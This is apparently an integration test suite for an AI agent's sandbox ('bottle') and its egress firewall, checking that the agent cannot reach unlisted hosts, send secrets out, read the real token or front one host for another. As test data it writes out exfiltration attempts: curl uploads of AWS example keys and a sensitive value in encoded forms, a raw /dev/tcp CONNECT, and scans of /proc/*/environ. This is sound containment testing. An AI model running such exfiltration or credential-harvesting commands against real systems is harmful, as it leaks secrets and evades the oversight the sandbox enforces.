// Escape suite, the proxy path (issue 4, properties 6, 7, 8 and 10; 7 also over WebSockets), against a real
// Docker engine: one bottle built by the real tools with a real token and a sensitive
// value in bb-bundle's host environment, and the fake internet on its egress network.
// What the upstream saw is read back from the fake's own log after every request.
import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { randomBytes } from "node:crypto";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import * as docker from "../../lib/docker/index.ts";
import { ANY_EXIT, run } from "../../lib/proc.ts";
import { removeAll, startBottle, type Bottle } from "./support/bottle.ts";
import { curlIn } from "./support/curl.ts";
import { ESCAPE_DIR, newId } from "./support/env.ts";
import { startFakeInternet, type FakeEvent, type FakeInternet } from "./support/fake-internet.ts";

const TOKEN = `real-token-${randomBytes(12).toString("hex")}`;
const SENSITIVE = `escape-sensitive-${randomBytes(8).toString("hex")}`;
// AWS's documented example key pair: the format is what the detector knows.
const AWS_KEY_ID = "AKIAIOSFODNN7EXAMPLE";
const AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";

const http = (e: FakeEvent) => e.kind === "http";

describe("escape suite: the proxy path (docker)", () => {
  const id = newId();
  let state: string;
  let fake: FakeInternet | undefined;
  let bottle: Bottle | undefined;
  let placeholder = "";
  let fakeIp = "";

  before(async () => {
    state = await mkdtemp(join(tmpdir(), "bb-escape-fw-"));
    fake = await startFakeInternet(id);
    const f = fake;
    bottle = await startBottle({
      stateRoot: state,
      upstreamCa: f.caFile,
      hostEnv: { BB_ESCAPE_TOKEN: TOKEN, BB_ESCAPE_SENSITIVE: SENSITIVE },
      afterBundle: async ({ egressNet }) => void (fakeIp = await f.attach(egressNet)),
    });
    placeholder = bottle.plan.bottle.egress[0]!.placeholder;
  });

  after(async () => {
    await fake?.removeContainer();
    await removeAll([bottle]);
    await fake?.removeRest();
    await rm(state, { recursive: true, force: true });
  });

  /** Run `fn`, then return what the fake recorded meanwhile. */
  async function seenDuring(fn: () => Promise<void>): Promise<FakeEvent[]> {
    const start = (await fake!.events()).length;
    await fn();
    return (await fake!.events()).slice(start);
  }

  it("the agent cannot reach a host declared nowhere through the proxy: 403 naming the host and the rule, and the upstream sees nothing", async () => {
    const seen = await seenDuring(async () => {
      const tls = await curlIn(bottle!, ["https://other.test/"]);
      assert.equal(tls.connect, "403", JSON.stringify(tls));
      assert.notEqual(tls.exit, 0);
      // What curl got in answer to its CONNECT, read raw: the body names host and rule.
      const raw = await bottle!.sh(`exec 3<>/dev/tcp/firewall/8888; printf 'CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n' >&3; timeout 5 cat <&3`);
      assert.match(raw.stdout, /^HTTP\/1\.1 403 /);
      assert.match(raw.stdout, /blocked request to other\.test: host is not in this bottle's allowlist/);
      const plain = await curlIn(bottle!, ["http://other.test/"]);
      assert.equal(plain.status, "403");
      assert.match(plain.body, /blocked request to other\.test: host is not in this bottle's allowlist/);
      // Nor can the proxy be pointed at the bundle's own loopback, where egress listens, or
      // at the upstream's address instead of its name.
      for (const url of ["http://127.0.0.1:9099/", "http://localhost:9099/", "http://firewall:9099/", `http://${fakeIp}/`]) {
        const r = await curlIn(bottle!, ["--proxy", "http://firewall:8888", "--noproxy", "", url]);
        assert.equal(r.status, "403", `${url}: ${JSON.stringify(r)}`);
        assert.match(r.body, /host is not in this bottle's allowlist/);
      }
      assert.equal((await curlIn(bottle!, ["-k", `https://${fakeIp}/`])).connect, "403");
    });
    assert.deepEqual(seen, []);
  });

  it("the agent cannot send a detectable secret to an allowed host: 403 naming the detector, and the upstream sees neither value", async () => {
    const seen = await seenDuring(async () => {
      const aws = await curlIn(bottle!, ["--data-binary", `{"key": "${AWS_KEY_ID}", "aws_secret_access_key": "${AWS_SECRET}"}`, "https://allowed.test/upload"]);
      assert.equal(aws.status, "403", JSON.stringify(aws));
      assert.match(aws.body, /blocked request to allowed\.test: .*detector aws/);
      const header = await curlIn(bottle!, ["-H", `X-Note: ${SENSITIVE}`, "https://allowed.test/note"]);
      assert.equal(header.status, "403", JSON.stringify(header));
      assert.match(header.body, /detector sensitive_env .*BB_ESCAPE_SENSITIVE/);
      // Encoded forms and the routed host get the same scan.
      const b64 = Buffer.from(`note=${SENSITIVE}`).toString("base64");
      for (const args of [
        ["--data-binary", b64, "https://allowed.test/b64"],
        [`https://allowed.test/q?v=${encodeURIComponent(SENSITIVE)}`],
        ["-H", `X-Note: ${SENSITIVE}`, "https://api.test/v1/note"],
        ["--data-binary", AWS_KEY_ID, "https://api.test/v1/upload"],
      ]) {
        const r = await curlIn(bottle!, args);
        assert.equal(r.status, "403", `${args.join(" ")}: ${JSON.stringify(r)}`);
        assert.match(r.body, /detector (sensitive_env|aws)/);
      }
    });
    assert.deepEqual(seen.filter(http), []);
    const text = JSON.stringify(seen);
    assert.ok(!text.includes(SENSITIVE) && !text.includes(AWS_KEY_ID) && !text.includes(AWS_SECRET));
  });

  it("a large body, which the firewall scans on its worker thread, is scanned all the same: a secret at its end is blocked, the clean body arrives whole", async () => {
    // 2 MiB of ordinary text, past the size that goes to the worker (off-thread.ts).
    const made = await bottle!.sh(`head -c 2097152 /dev/zero | tr '\\0' 'a' > /tmp/big && { cat /tmp/big; printf ' key=%s' "$1"; } > /tmp/big-secret`, { args: [AWS_KEY_ID] });
    assert.equal(made.code, 0, made.stderr);
    const seen = await seenDuring(async () => {
      const secret = await curlIn(bottle!, ["--data-binary", "@/tmp/big-secret", "https://allowed.test/big-secret"]);
      assert.equal(secret.status, "403", JSON.stringify({ ...secret, body: secret.body.slice(0, 300) }));
      assert.match(secret.body, /detector aws matched in body/);
      const clean = await curlIn(bottle!, ["--data-binary", "@/tmp/big", "https://allowed.test/big"]);
      assert.equal(clean.status, "200", JSON.stringify({ ...clean, body: clean.body.slice(0, 300) }));
    });
    const arrived = seen.filter(http) as Extract<FakeEvent, { kind: "http" }>[];
    assert.deepEqual(arrived.map((e) => [e.path, e.body.length, e.body === "a".repeat(2097152)]), [["/big", 2097152, true]]);
    const logs = await run(["docker", "logs", bottle!.bundle], { expect: ANY_EXIT });
    assert.doesNotMatch(logs.stdout + logs.stderr, /scan worker failed/, "the firewall scanned on its own thread: the worker did not run in the image");
  });

  it("the agent cannot send a secret over a WebSocket to an allowed host: the message is refused with close 1008 and the upstream never gets it", async () => {
    const client = await readFile(join(ESCAPE_DIR, "testdata", "ws-client.mjs"), "utf8");
    const ws = async (message: string) => {
      const r = await bottle!.exec(["node", "--input-type=module", "-", "allowed.test", "/ws", message], { input: client });
      assert.equal(r.code, 0, r.stderr);
      return JSON.parse(r.stdout) as { status: number; frame: { opcode: number; text?: string; code?: number; reason?: string } | null };
    };
    const seen = await seenDuring(async () => {
      const clean = await ws("hello over a websocket");
      assert.deepEqual(clean, { status: 101, frame: { opcode: 1, text: "echo: hello over a websocket" } });
      const secret = await ws(`{"key": "${AWS_KEY_ID}", "aws_secret_access_key": "${AWS_SECRET}"}`);
      assert.equal(secret.status, 101);
      assert.equal(secret.frame?.opcode, 8, JSON.stringify(secret));
      assert.equal(secret.frame?.code, 1008);
      assert.match(secret.frame?.reason ?? "", /detector aws matched in websocket text message/);
    });
    assert.equal(seen.filter((e) => e.kind === "ws-open").length, 2, "both upgrades reached the upstream");
    assert.deepEqual(seen.filter((e) => e.kind === "ws").map((e) => (e as { payload: string }).payload), ["hello over a websocket"]);
    const text = JSON.stringify(seen);
    assert.ok(!text.includes(AWS_KEY_ID) && !text.includes(AWS_SECRET), "the secret reached the upstream");

    // 2 MiB messages go to the firewall's scan worker (off-thread.ts): scanned all the same.
    const made = await bottle!.sh(`head -c 2097152 /dev/zero | tr '\\0' 'a' > /tmp/ws-big && { cat /tmp/ws-big; printf ' key=%s' "$1"; } > /tmp/ws-big-secret`, { args: [AWS_KEY_ID] });
    assert.equal(made.code, 0, made.stderr);
    const large = await seenDuring(async () => {
      assert.deepEqual(await ws("@/tmp/ws-big"), { status: 101, frame: { opcode: 1, text: `echo: ${"a".repeat(119)}` } });
      const secret = await ws("@/tmp/ws-big-secret");
      assert.deepEqual([secret.frame?.opcode, secret.frame?.code], [8, 1008], JSON.stringify(secret));
      assert.match(secret.frame?.reason ?? "", /detector aws matched in websocket text message/);
    });
    assert.deepEqual(large.filter((e) => e.kind === "ws").map((e) => (e as { payload: string }).payload === "a".repeat(2097152)), [true]);
    const logs = await run(["docker", "logs", bottle!.bundle], { expect: ANY_EXIT });
    assert.doesNotMatch(logs.stdout + logs.stderr, /scan worker failed/, "the firewall scanned on its own thread: the worker did not run in the image");
  });

  it("the agent never holds the real token: its env, every /proc/*/environ and its files carry only the placeholder", async () => {
    assert.equal((await bottle!.exec(["printenv", "ESCAPE_TOKEN"])).stdout.trim(), placeholder);
    const asAgent = await bottle!.sh("env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'");
    assert.ok(asAgent.stdout.includes(`ESCAPE_TOKEN=${placeholder}`), asAgent.stdout);
    assert.ok(!asAgent.stdout.includes(TOKEN));
    // Stricter than the agent can be: root searches every process and the writable trees.
    // The token goes in on stdin, so it never sits in an argv or environment in the bottle.
    const asRoot = await bottle!.sh(
      `read -r t; cat /proc/[0-9]*/environ 2>/dev/null | grep -c -F -e "$t"; grep -rIl -F -e "$t" /home /root /etc /tmp /run /var /opt /usr/local 2>/dev/null; echo done`,
      { root: true, input: `${TOKEN}\n` },
    );
    assert.equal(asRoot.stdout, "0\ndone\n");
    const info = await docker.inspectContainer(bottle!.agent);
    assert.ok(!Object.values(info!.env).some((v) => v.includes(TOKEN)));
    assert.equal(info!.env.ESCAPE_TOKEN, placeholder);
  });

  it("in the bundle only egress holds the token slot, and only the firewall and git-gate the sensitive value (init, which hands them out, holds them as docker gave them)", async () => {
    const list = await docker.execIn(bottle!.bundle, ["sh", "-c",
      'for p in /proc/[0-9]*; do c=$(tr "\\0" " " < $p/cmdline 2>/dev/null); case "$c" in "node /opt/bb/sidecar/"*) echo "${p#/proc/} $(stat -c %u $p) $c";; esac; done']);
    const held: string[] = [];
    for (const line of list.stdout.split("\n").filter(Boolean)) {
      const [pid, uid, , script] = line.split(" ");
      const name = /sidecar\/([a-z-]+)\.js/.exec(script!)![1]!;
      // Each process's environment read by its own uid (root here lacks CAP_SYS_PTRACE, which
      // reading another uid's needs); the real values come in on stdin, never in an argv.
      const r = await docker.execIn(bottle!.bundle, ["sh", "-c", `read -r t; read -r s; e=$(tr "\\0" "\\n" < /proc/${pid}/environ) || exit 3; echo "$(echo "$e" | grep -oE "^(EGRESS_TOKEN|BB_SENSITIVE)_[0-9]+" | sort | tr "\\n" " ")token=$(echo "$e" | grep -c -F -e "$t") sensitive=$(echo "$e" | grep -c -F -e "$s")"`], { user: uid, input: `${TOKEN}\n${SENSITIVE}\n` });
      held.push(`${name}: ${r.stdout.trim()}`);
    }
    assert.deepEqual(held.sort(), [
      "egress: EGRESS_TOKEN_0 token=1 sensitive=0",
      "firewall: BB_SENSITIVE_0 token=0 sensitive=1",
      "git-gate: BB_SENSITIVE_0 token=0 sensitive=1",
      "init: BB_SENSITIVE_0 EGRESS_TOKEN_0 token=1 sensitive=1",
      "supervise: token=0 sensitive=0",
    ]);
  });

  it("what the bottle writes to its logs cannot fill your disk: both containers log to docker's local driver, rotated at 10 MiB x 3", async () => {
    for (const container of [bottle!.bundle, bottle!.agent]) {
      const r = await run(["docker", "inspect", "--format", "{{json .HostConfig.LogConfig}}", container]);
      assert.deepEqual(JSON.parse(r.stdout), { Type: "local", Config: { "max-file": "3", "max-size": "10m" } }, container);
    }
  });

  it("the agent reaches an allowed host, and the routed host gets the real credential while the agent only ever sends the placeholder", async () => {
    const seen = await seenDuring(async () => {
      const allowed = await curlIn(bottle!, ["https://allowed.test/hello"]);
      assert.equal(allowed.status, "200", JSON.stringify(allowed));
      const routed = await curlIn(bottle!, ["-H", `Authorization: Bearer ${placeholder}`, "https://api.test/v1/models"]);
      assert.equal(routed.status, "200", JSON.stringify(routed));
      const bare = await curlIn(bottle!, ["https://api.test/v1/bare"]);
      assert.equal(bare.status, "200", JSON.stringify(bare));
    });
    const requests = seen.filter((e): e is Extract<FakeEvent, { kind: "http" }> => e.kind === "http");
    assert.deepEqual(requests.map((e) => [e.sni, e.host, e.path]), [
      ["allowed.test", "allowed.test", "/hello"],
      ["api.test", "api.test", "/v1/models"],
      ["api.test", "api.test", "/v1/bare"],
    ]);
    assert.equal(requests[0]!.headers.authorization, undefined);
    assert.equal(requests[1]!.headers.authorization, `Bearer ${TOKEN}`);
    assert.equal(requests[2]!.headers.authorization, `Bearer ${TOKEN}`);
    assert.ok(!JSON.stringify(await fake!.events()).includes(placeholder), "the placeholder reached the upstream");
  });

  it("a routed upstream that echoes the request hands the agent a mask, never the real credential", async () => {
    const echo = await curlIn(bottle!, ["-D", "/dev/stderr", "-H", `Authorization: Bearer ${placeholder}`, "https://api.test/echo"]);
    assert.equal(echo.status, "200", JSON.stringify(echo));
    assert.ok(!echo.body.includes(TOKEN) && !echo.stderr.includes(TOKEN), "the real token came back to the agent");
    assert.match(echo.stderr, /x-echo-authorization: Bearer \[egress-redacted\]/i);
    assert.match(JSON.parse(echo.body).headers.authorization, /^Bearer \[egress-redacted\]/);
  });

  it("a tls_passthrough host is reached untouched: the agent sees the upstream's own certificate, not the bottle CA's", async () => {
    const upstreamCa = await readFile(fake!.caFile, "utf8");
    const seen = await seenDuring(async () => {
      const bottleTrust = await curlIn(bottle!, ["https://passthrough.test/bottle-trust"]);
      assert.equal(bottleTrust.exit, 60, JSON.stringify(bottleTrust)); // the bottle CA did not sign it
      const r = await bottle!.sh(`cat > /tmp/upstream-ca.pem; curl -sS -m 15 --cacert /tmp/upstream-ca.pem -o /dev/null -w '%{http_code}' https://passthrough.test/pt`, { input: upstreamCa });
      assert.equal(r.stdout, "200", r.stderr);
    });
    assert.deepEqual(seen.filter(http).map((e) => e.kind === "http" && [e.sni, e.path]), [["passthrough.test", "/pt"]]);
  });

  it("a tunnel to an allowed host cannot front for another: SNI or Host naming other.test reach only allowed.test", async () => {
    const seen = await seenDuring(async () => {
      await curlIn(bottle!, ["-k", "--connect-to", "other.test:443:allowed.test:443", "https://other.test/front-sni"]);
      await curlIn(bottle!, ["-H", "Host: other.test", "https://allowed.test/front-host"]);
      await curlIn(bottle!, ["-H", "Host: other.test", "http://allowed.test/front-plain"]);
    });
    const requests = seen.filter((e): e is Extract<FakeEvent, { kind: "http" }> => e.kind === "http");
    for (const e of requests) assert.deepEqual([e.host, e.tls ? e.sni : "allowed.test"], ["allowed.test", "allowed.test"], JSON.stringify(e));
    assert.ok(!JSON.stringify(seen).includes("other.test"));
    assert.ok(requests.length >= 2, JSON.stringify(seen)); // what got through went to allowed.test
  });
});
